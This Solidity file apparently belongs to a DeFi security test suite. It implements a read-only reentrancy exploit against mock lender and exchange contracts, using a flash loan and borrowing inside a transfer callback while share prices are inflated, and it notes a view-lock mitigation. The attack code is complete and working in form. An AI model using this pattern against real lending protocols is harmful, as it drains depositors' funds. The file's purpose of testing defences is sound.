// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Attack} from "./Attack.sol";
import {MakerLender} from "./worlds/MakerLender.sol";
import {IMoved} from "./worlds/Token.sol";
import {World} from "./worlds/World.sol";

/// A lender asks the exchange what makers' shares are worth. The exchange pays before it writes when liquidity leaves:
/// in the middle the shares are gone and the money counts as there, so that every other share looks dear. He makes the
/// market with a flash loan, leaves it, and borrows while he is paid. Mechanism of Market.xyz 2022, dForce and
/// Sentiment 2023. Stopped by the view, which reverts while the lock is held (PERP-06).
contract ReadOnlyReentrancy is Attack, IMoved {
    uint256 private constant PLEDGE = 49_000 * USD;
    MakerLender private immutable venue;
    bool private _waits;

    constructor(World world_) Attack(world_) {
        venue = world_.makerLender();
        usd.approve(address(venue), type(uint256).max);
    }

    function naiveLoss() external pure override returns (uint256) {
        return 310_000 * USD;
    }

    /// What a maker earns while it lasts, at most the funding of the honest side in three blocks.
    function bound() external pure override returns (uint256) {
        return 20_000 * USD * 3 / 100 * 36 / 1 days;
    }

    function capital() external pure override returns (uint256, uint256) {
        return (PLEDGE + 1_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 3;
    }

    /// And what he could take from the lender.
    function wealth() public view override returns (uint256) {
        return super.wealth() + venue.equityOf(address(this));
    }

    function loan() public view virtual returns (uint256) {
        return 9_000_000 * USD;
    }

    function onMoved(address, address, uint256) external {
        if (msg.sender != address(usd) || !_waits) return;
        _waits = false;
        for (uint256 part = 100; part > 10; part -= 5) {
            try venue.borrow(loan() * part / 2_400) {
                return;
            } catch {}
        }
    }

    function _step(uint256 step) internal override {
        if (step == 0) return venue.supply(PLEDGE);
        if (step == 1) return lender.flash(usd, loan(), "");
        // Where nothing was borrowed in the middle: what anyone may borrow.
        if (venue.debtOf(address(this)) == 0) venue.borrow(PLEDGE * 7 / 10);
    }

    function _flashed(bytes calldata) internal override {
        perp.deposit(loan());
        uint256 shares = perp.addLiquidity(MARKET, loan());
        usd.wantCalls(true);
        _waits = true;
        perp.removeLiquidity(MARKET, shares);
        usd.wantCalls(false);
    }
}
